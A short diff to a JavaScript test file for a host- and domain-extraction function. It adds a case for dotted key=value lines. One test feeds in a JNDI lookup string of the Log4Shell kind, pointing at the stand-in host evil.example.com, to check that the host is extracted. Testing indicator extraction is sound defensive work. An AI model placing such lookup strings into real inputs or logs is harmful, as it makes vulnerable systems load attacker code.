@@ -60,6 +60,11 @@ describe('domains', () => {
       .toEqual([]);
   });
 
+  it('takes a dotted name followed by = for a key', () => {
+    expect(values('fox.version=s:1.0\napp.name=s:Workbench\nos.name=s:Windows XP')).toEqual([]);
+    expect(values('host=c2.example.name&x=1')).toEqual(['c2.example.name']);
+  });
+
   it('finds the host of a URL scheme it does not report, as in a JNDI lookup', () => {
     expect(values('${jndi:ldap://evil.example.com:1389/a} rmi://198.51.100.4/b'))
       .toEqual(['evil.example.com', '198.51.100.4']);
